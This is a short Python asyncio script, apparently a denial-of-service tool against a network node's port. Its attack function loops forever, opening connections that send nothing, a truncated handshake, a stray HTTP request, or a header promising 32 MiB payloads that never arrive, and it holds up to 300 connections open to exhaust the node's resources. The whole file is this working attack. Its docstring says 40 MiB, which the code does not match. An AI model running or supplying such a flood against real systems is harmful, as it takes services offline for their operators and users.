"""Dials a node's port and says nothing, half a hello, nonsense, or promises 40 MiB."""

import asyncio

CONNECTIONS = 300
PROMISE = b"\xac\x01\x01\x01\x00\x00\x00\x01" + (32 * 1024 * 1024).to_bytes(4, "big") * 2 + b"x"
OPENINGS = [b"", b"\xac\x01\x01\xff", b"GET / HTTP/1.1\r\n\r\n", PROMISE]


async def attack(host: str, port: int) -> None:
    connections: list[asyncio.StreamWriter] = []
    while True:
        for opening in OPENINGS:
            _reader, writer = await asyncio.open_connection(host, port)
            writer.write(opening)
            connections.append(writer)
        while len(connections) > CONNECTIONS:
            connections.pop(0).close()
        await asyncio.sleep(0.005)
